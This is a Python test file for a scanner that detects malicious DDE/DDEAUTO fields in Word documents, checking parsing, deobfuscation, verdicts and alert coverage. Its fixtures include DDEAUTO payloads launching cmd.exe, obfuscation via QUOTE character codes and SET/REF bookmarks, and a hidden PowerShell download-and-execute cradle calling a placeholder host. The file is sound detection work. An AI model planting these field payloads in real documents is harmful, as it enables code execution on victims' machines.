"""Word field evaluation and the DDE / DDEAUTO grammar (scanner.fields)."""

from __future__ import annotations

from hypothesis import given
from hypothesis import strategies as st

from scanner.fields import findings_for_stories, tokenize
from scanner.model import (
    FieldNode,
    FieldStory,
    HostApplication,
    Location,
    ScanConfig,
    Severity,
    Technique,
    Verdict,
)

LOCATION = Location(("t.docx", "word/document.xml"))


def findings(*fields: FieldNode, config: ScanConfig | None = None):  # type: ignore[no-untyped-def]
    return findings_for_stories(
        [FieldStory(LOCATION, fields)], HostApplication.WORD, config or ScanConfig()
    )


def field(*pieces: str | FieldNode, **kwargs: object) -> FieldNode:
    return FieldNode(tuple(pieces), **kwargs)  # type: ignore[arg-type]


def test_tokenize_quotes_switches_and_escapes() -> None:
    tokens = tokenize('DDE c:\\\\a\\\\b.exe "/k \\"x\\" y" \\a \\* MERGEFORMAT')
    assert [t.text for t in tokens] == [
        "DDE",
        "c:\\a\\b.exe",
        '/k "x" y',
        "\\a",
        "\\*",
        "MERGEFORMAT",
    ]
    assert [t.switch for t in tokens] == [False, False, False, True, True, False]


def test_tokenize_curly_quotes() -> None:
    assert [t.text for t in tokenize("DDE cmd “/c calc.exe”")] == ["DDE", "cmd", "/c calc.exe"]


def test_plain_ddeauto_with_doubled_backslashes() -> None:
    (finding,) = findings(field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'))
    assert finding.technique is Technique.DDE_FIELD
    assert finding.dde is not None and finding.dde.automatic
    assert finding.dde.application == "c:\\windows\\system32\\cmd.exe"
    assert finding.dde.topic == "/k calc.exe"
    assert finding.process.parent == "WINWORD.EXE"
    assert finding.process.image == "cmd.exe"
    assert finding.process.command_line == "c:\\windows\\system32\\cmd.exe /k calc.exe"
    assert finding.kql.is_office_spawn and not finding.kql.suspicious_args
    assert finding.verdict is Verdict.MALICIOUS and finding.severity is Severity.HIGH
    assert finding.evidence.raw == 'DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc.exe"'
    assert finding.location == LOCATION.at("field 1")


def test_keyword_in_any_case_and_plain_dde_is_not_automatic() -> None:
    (auto,) = findings(field('dDeAuTo cmd "/c calc.exe"'))
    assert auto.dde is not None and auto.dde.keyword == "DDEAUTO" and auto.dde.automatic
    (manual,) = findings(field('dde cmd "/c calc.exe"'))
    assert manual.dde is not None and not manual.dde.automatic
    (switched,) = findings(field('DDE cmd "/c calc.exe" \\a'))
    assert switched.dde is not None and switched.dde.automatic and switched.dde.switches == ("\\a",)
    (dirty,) = findings(field('DDE cmd "/c calc.exe"', dirty=True))
    assert dirty.dde is not None and dirty.dde.automatic


def test_quote_character_codes_nested_and_split() -> None:
    quote = field("QUOTE ", "99 1", "09 100")
    (finding,) = findings(field("DDEAUTO ", quote, ' "/c calc.exe"'))
    assert finding.dde is not None and finding.dde.application == "cmd"
    assert finding.process.image == "cmd.exe"
    assert finding.evidence.raw == 'DDEAUTO { QUOTE 99 109 100 } "/c calc.exe"'
    assert finding.evidence.deobfuscated == 'DDEAUTO cmd "/c calc.exe"'
    assert any("character codes" in step for step in finding.evidence.steps)


def test_keyword_itself_built_by_quote() -> None:
    keyword = field("QUOTE 68 68 69 65 85 84 79")
    (finding,) = findings(field(keyword, ' cmd "/c calc.exe"'))
    assert finding.dde is not None and finding.dde.keyword == "DDEAUTO"


def test_set_and_ref_across_fields() -> None:
    setter = field(' SET prog "c:\\\\windows\\\\system32\\\\cmd.exe" ')
    reference = field(" REF prog ")
    dde = field("DDEAUTO ", reference, ' "/c calc.exe"')
    (finding,) = findings(setter, dde)
    assert finding.dde is not None and finding.dde.application == "c:\\windows\\system32\\cmd.exe"
    assert finding.process.image == "cmd.exe"


def test_bare_bookmark_reference_and_if() -> None:
    setter = field('SET a "cmd"')
    (finding,) = findings(setter, field("DDEAUTO ", field("a"), ' "/c calc.exe"'))
    assert finding.dde is not None and finding.dde.application == "cmd"
    chooser = field('IF 1 = 1 "cmd" "notepad"')
    (chosen,) = findings(field("DDEAUTO ", chooser, ' "/c calc.exe"'))
    assert chosen.dde is not None and chosen.dde.application == "cmd"


def test_nested_dde_inside_another_field_is_reported() -> None:
    inner = field('DDEAUTO cmd "/c calc.exe"')
    (finding,) = findings(field("IF 1 = 1 ", inner, ' "x"'))
    assert finding.dde is not None and finding.dde.keyword == "DDEAUTO"


def test_unknown_nested_field_uses_its_cached_result() -> None:
    (finding,) = findings(field("DDEAUTO ", field("DOCPROPERTY x", result="cmd"), ' "/c calc.exe"'))
    assert finding.dde is not None and finding.dde.application == "cmd"


def test_clean_fields_give_nothing() -> None:
    assert not findings(
        field('HYPERLINK "https://example.invalid"'),
        field("PAGE"),
        field('QUOTE "DDEAUTO cmd"'),
        field("MERGEFIELD DDEAUTO"),
        field('TOC \\o "1-3"'),
        field("PAGE", result="DDEAUTO cmd /c calc"),
    )


def test_powershell_cradle_is_critical() -> None:
    (finding,) = findings(
        field(
            'DDEAUTO "C:\\\\Programs\\\\Microsoft\\\\Office\\\\MSWord\\\\..\\\\..\\\\..\\\\..\\\\'
            "windows\\\\system32\\\\WindowsPowerShell\\\\v1.0\\\\powershell.exe -NoP -sta -NonI -W "
            "Hidden IEX (New-Object System.Net.WebClient).DownloadString("
            '\'http://example.invalid/a.ps1\'); # " "Microsoft Document.docx"'
        )
    )
    assert finding.process.image == "powershell.exe"
    assert finding.kql.is_office_spawn and finding.kql.suspicious_args
    assert finding.severity is Severity.CRITICAL and finding.verdict is Verdict.MALICIOUS


def test_calc_is_a_coverage_gap() -> None:
    (finding,) = findings(field("DDEAUTO calc"))
    assert finding.process.image == "calc.exe"
    assert not finding.kql.would_alert and "calc.exe" in finding.kql.gap
    assert finding.verdict is Verdict.MALICIOUS


def test_allowed_service_is_reported_not_malicious() -> None:
    config = ScanConfig(allowed_dde_services=frozenset({"SAPDDE"}))
    (finding,) = findings(field('DDE SAPDDE "ledger" "R1C1"'), config=config)
    assert (
        finding.allowed and finding.verdict is Verdict.CLEAN and finding.severity is Severity.INFO
    )
    (unknown,) = findings(field('DDE SAPDDE "ledger" "R1C1"'))
    assert not unknown.allowed and unknown.verdict is Verdict.SUSPICIOUS


def test_deep_nesting_does_not_recurse_without_bound() -> None:
    node = field("QUOTE 99")
    for _ in range(500):
        node = field("QUOTE ", node)
    assert findings(field("DDEAUTO ", node, ' "/c calc.exe"'))


@given(st.text(max_size=200))
def test_tokenize_never_raises(text: str) -> None:
    tokenize(text)
